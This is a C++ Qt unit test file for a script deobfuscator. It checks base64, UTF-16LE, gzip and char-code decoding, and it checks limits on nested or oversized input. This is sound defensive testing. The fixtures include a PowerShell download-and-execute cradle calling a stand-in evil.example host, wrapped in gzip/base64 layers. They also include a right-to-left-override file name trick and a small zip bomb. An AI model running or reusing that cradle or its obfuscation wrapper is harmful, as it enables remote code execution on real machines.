// SPDX-License-Identifier: GPL-3.0-or-later
// Decoding without executing: base64 (standard, URL-safe, missing padding,
// invalid), UTF-16LE detection, bounded gzip/deflate, char codes,
// concatenation, format strings, nested layers and their bounds.

#include <QtTest>

#include <zlib.h>

#include "core/explain/decode_base64.h"
#include "core/explain/decode_inflate.h"
#include "core/explain/layered_decoder.h"
#include "core/explain/script_deobfuscator.h"
#include "core/explain/visible_text.h"

using namespace hitome::core;

namespace {

std::string toUtf16le(const std::string& ascii) {
    std::string out;
    for (char c : ascii) {
        out += c;
        out += '\0';
    }
    return out;
}

std::string base64(const std::string& bytes) {
    static const char* kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    size_t i = 0;
    for (; i + 2 < bytes.size(); i += 3) {
        const unsigned v = (static_cast<unsigned char>(bytes[i]) << 16) | (static_cast<unsigned char>(bytes[i + 1]) << 8) |
                           static_cast<unsigned char>(bytes[i + 2]);
        for (int k = 18; k >= 0; k -= 6) out += kAlphabet[(v >> k) & 63];
    }
    if (bytes.size() - i == 1) {
        const unsigned v = static_cast<unsigned char>(bytes[i]) << 16;
        out += kAlphabet[(v >> 18) & 63];
        out += kAlphabet[(v >> 12) & 63];
        out += "==";
    } else if (bytes.size() - i == 2) {
        const unsigned v = (static_cast<unsigned char>(bytes[i]) << 16) | (static_cast<unsigned char>(bytes[i + 1]) << 8);
        out += kAlphabet[(v >> 18) & 63];
        out += kAlphabet[(v >> 12) & 63];
        out += kAlphabet[(v >> 6) & 63];
        out += '=';
    }
    return out;
}

std::string compress(const std::string& data, int windowBits) {
    z_stream zs{};
    deflateInit2(&zs, 9, Z_DEFLATED, windowBits, 8, Z_DEFAULT_STRATEGY);
    std::string out(deflateBound(&zs, data.size()) + 32, '\0');
    zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
    zs.avail_in = static_cast<uInt>(data.size());
    zs.next_out = reinterpret_cast<Bytef*>(out.data());
    zs.avail_out = static_cast<uInt>(out.size());
    deflate(&zs, Z_FINISH);
    out.resize(zs.total_out);
    deflateEnd(&zs);
    return out;
}

}  // namespace

class TestDecode : public QObject {
    Q_OBJECT
private slots:
    void base64Variants_data() {
        QTest::addColumn<QByteArray>("encoded");
        QTest::addColumn<QByteArray>("decoded");
        QTest::newRow("padded") << QByteArray("aGVsbG8=") << QByteArray("hello");
        QTest::newRow("missing padding") << QByteArray("aGVsbG8") << QByteArray("hello");
        QTest::newRow("two pad") << QByteArray("aGk=") << QByteArray("hi");
        QTest::newRow("two pad missing") << QByteArray("aGk") << QByteArray("hi");
        QTest::newRow("url safe") << QByteArray("-_8") << QByteArray("\xfb\xff");
        QTest::newRow("standard same bytes") << QByteArray("+/8=") << QByteArray("\xfb\xff");
        QTest::newRow("whitespace ignored") << QByteArray("aGVs\r\nbG8=") << QByteArray("hello");
    }
    void base64Variants() {
        QFETCH(QByteArray, encoded);
        QFETCH(QByteArray, decoded);
        const auto r = decodeBase64(encoded.toStdString());
        QVERIFY(r.has_value());
        QCOMPARE(QByteArray::fromStdString(*r), decoded);
    }

    void invalidBase64IsRejected_data() {
        QTest::addColumn<QByteArray>("encoded");
        for (const char* s : {"a", "aGVsbG8=x", "a$bc", "====", "", "aGk===", "日本"}) QTest::newRow(s) << QByteArray(s);
    }
    void invalidBase64IsRejected() {
        QFETCH(QByteArray, encoded);
        QVERIFY(!decodeBase64(encoded.toStdString()).has_value());
    }

    void utf16Detection() {
        QVERIFY(looksLikeUtf16le(toUtf16le("Write-Host hi")));
        QVERIFY(!looksLikeUtf16le("Write-Host hi!"));
        QVERIFY(!looksLikeUtf16le(std::string("\x00\xD8\x41\x00", 4)));   // unpaired high surrogate
        QVERIFY(looksLikeUtf16le(std::string("\xFF\xFE\x41\x00", 4)));
        std::string kind;
        QCOMPARE(bytesToText(toUtf16le("abc"), &kind), std::string("abc"));
        QCOMPARE(kind, std::string("utf16le"));
        // Malformed UTF-16 (odd length, lone low surrogate) never yields invalid UTF-8.
        const std::string text = bytesToText(std::string("\xFF\xFE\x41\x00\x00\xDC\x42\x00\x43", 9), &kind);
        QCOMPARE(kind, std::string("utf16le"));
        QCOMPARE(QString::fromStdString(text), QString::fromUtf8("A\xEF\xBF\xBD" "B\xEF\xBF\xBD"));   // cut-off unit marked too
        const std::string notUtf16 = bytesToText(std::string("\x41\x00\x00\xDC\x42\x00\x43", 7), &kind);
        QCOMPARE(kind, std::string("utf8"));
        QCOMPARE(QString::fromStdString(visibleText(notUtf16)), QString::fromUtf8("A⟨U+0000⟩⟨U+0000⟩\xEF\xBF\xBD" "B⟨U+0000⟩C"));
    }

    // A long script with a lone surrogate in the middle and a cut-off last
    // byte is still read as UTF-16LE; each broken unit shows as U+FFFD.
    void malformedUtf16ScriptStaysReadable() {
        std::string bytes = toUtf16le("Write-Host 'before'") + std::string("\x00\xD8", 2) + toUtf16le(" 'after'") + "X";
        std::string kind;
        const std::string text = bytesToText(bytes, &kind);
        QCOMPARE(kind, std::string("utf16le"));
        QCOMPARE(QString::fromStdString(text), QString::fromUtf8("Write-Host 'before'\xEF\xBF\xBD 'after'\xEF\xBF\xBD"));
        const auto layers = decodeEncodedCommand(base64(bytes));
        QCOMPARE(layers.size(), size_t{1});
        QCOMPARE(layers[0].kind, std::string("base64+utf16le"));
        QCOMPARE(layers[0].text, text);
    }

    void inflateFormatsAndCap() {
        const std::string payload(100000, 'A');
        for (int bits : {15 + 16, 15, -15}) {
            const auto r = inflateAny(compress(payload, bits), 1 << 20);
            QVERIFY(r.has_value());
            QCOMPARE(r->bytes, payload);
            QVERIFY(!r->isTruncated);
        }
        const auto capped = inflateAny(compress(std::string(5 << 20, 'z'), 31), 4096);   // a small zip bomb
        QVERIFY(capped.has_value());
        QCOMPARE(capped->bytes.size(), size_t{4096});
        QVERIFY(capped->isTruncated);
        QVERIFY(!inflateBounded("not compressed at all", CompressionFormat::Gzip, 100).has_value());
    }

    void foldCharCodes_data() {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QString>("folded");
        QTest::newRow("char sum") << "iex ([char]72+[char]105)" << "iex ('Hi')";
        QTest::newRow("char sum parens hex") << "[char](0x48) + [char]105" << "'Hi'";
        QTest::newRow("code list join") << "[char[]](72,101,108,108,111) -join ''" << "[char[]]('Hello') -join ''";
    }
    void foldCharCodes() {
        QFETCH(QString, script);
        QFETCH(QString, folded);
        const auto r = hitome::core::foldCharCodes(script.toStdString());
        QVERIFY(r.has_value());
        QCOMPARE(QString::fromStdString(*r), folded);
    }

    void concatenationAndFormat() {
        QCOMPARE(*foldConcatenation("IEX ('Down'+'load'+\"String\")"), std::string("IEX ('DownloadString')"));
        QCOMPARE(*foldFormatStrings("(\"{2}{0}{1}\" -f 'wnl','oad','Do')"), std::string("('Download')"));
        QVERIFY(!foldConcatenation("'a' 'b'").has_value());
        QVERIFY(!foldFormatStrings("'{5}' -f 'a'").has_value());   // index out of range: left alone
        QCOMPARE(*foldConcatenation("'it''s'+'!'"), std::string("'it''s!'"));
    }

    void encodedCommandDecodes() {
        const std::string script = "Write-Host 'pwned'";
        const auto layers = decodeEncodedCommand(base64(toUtf16le(script)));
        QCOMPARE(layers.size(), size_t{1});
        QCOMPARE(layers[0].kind, std::string("base64+utf16le"));
        QCOMPARE(layers[0].text, script);
        QVERIFY(decodeEncodedCommand("%%%not-base64%%%").empty());
    }

    void gzipInsideScriptIsPeeled() {
        const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
        const std::string script = "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
                                   "[IO.MemoryStream][Convert]::FromBase64String('" + base64(compress(inner, 31)) +
                                   "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
        const auto layers = decodeEncodedCommand(base64(toUtf16le(script)));
        QCOMPARE(layers.size(), size_t{2});
        QCOMPARE(layers[1].kind, std::string("gzip"));
        QCOMPARE(layers[1].text, inner);
    }

    void nestedLayersAreBounded() {
        std::string text = "Write-Output 'core'";
        for (int i = 0; i < 20; ++i) text = "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + base64(text) + "')))";
        const auto layers = decodeScriptLayers(text);
        QCOMPARE(layers.size(), size_t{8});   // DecodeLimits::maxDepth
        for (const auto& l : layers) QCOMPARE(l.kind, std::string("base64"));
        DecodeLimits small;
        small.maxTotalBytes = 1000;
        const auto capped = decodeScriptLayers(text, small);
        size_t total = 0;
        for (const auto& l : capped) total += l.text.size();
        QVERIFY(total <= 1000);
        QVERIFY(capped.back().isTruncated);
    }

    void hostileInputIsBounded() {
        const std::string quotes(1 << 20, '\'');
        QVERIFY(decodeScriptLayers(quotes).size() <= 24);
        std::string codes = "[char]";
        for (int i = 0; i < 200000; ++i) codes += "65,";
        codes += "1";
        decodeScriptLayers(codes);
        const std::string junk(1 << 20, 'A');   // valid base64 alphabet, decodes to binary junk
        decodeScriptLayers("'" + junk + "'");
        // No timed assertion: a super-linear scan of these megabytes would not
        // finish within ctest's timeout, which is what catches it.
    }

    void visibleTextMarksHiddenCharacters_data() {
        QTest::addColumn<QByteArray>("input");
        QTest::addColumn<QString>("shown");
        QTest::newRow("nul") << QByteArray("a\0b", 3) << QString::fromUtf8("a⟨U+0000⟩b");
        QTest::newRow("bidi override") << QByteArray("evil\xE2\x80\xAEtxt.exe") << QString::fromUtf8("evil⟨U+202E⟩txt.exe");
        QTest::newRow("escape") << QByteArray("\x1b[31mred") << QString::fromUtf8("⟨U+001B⟩[31mred");
        QTest::newRow("invalid byte") << QByteArray("a\xFFz") << QString::fromUtf8("a⟨0xFF⟩z");
        QTest::newRow("newline") << QByteArray("a\nb") << QString::fromUtf8("a⟨U+000A⟩b");
        QTest::newRow("japanese kept") << QByteArray("日本語") << QString::fromUtf8("日本語");
        QTest::newRow("zero width") << QByteArray("a\xE2\x80\x8B" "b") << QString::fromUtf8("a⟨U+200B⟩b");
    }
    void visibleTextMarksHiddenCharacters() {
        QFETCH(QByteArray, input);
        QFETCH(QString, shown);
        QCOMPARE(QString::fromStdString(visibleText(input.toStdString())), shown);
        QCOMPARE(needsVisibleEscaping(input.toStdString()), QString::fromUtf8(input) != shown || input.contains('\0'));
    }
};

QTEST_APPLESS_MAIN(TestDecode)
#include "test_decode.moc"
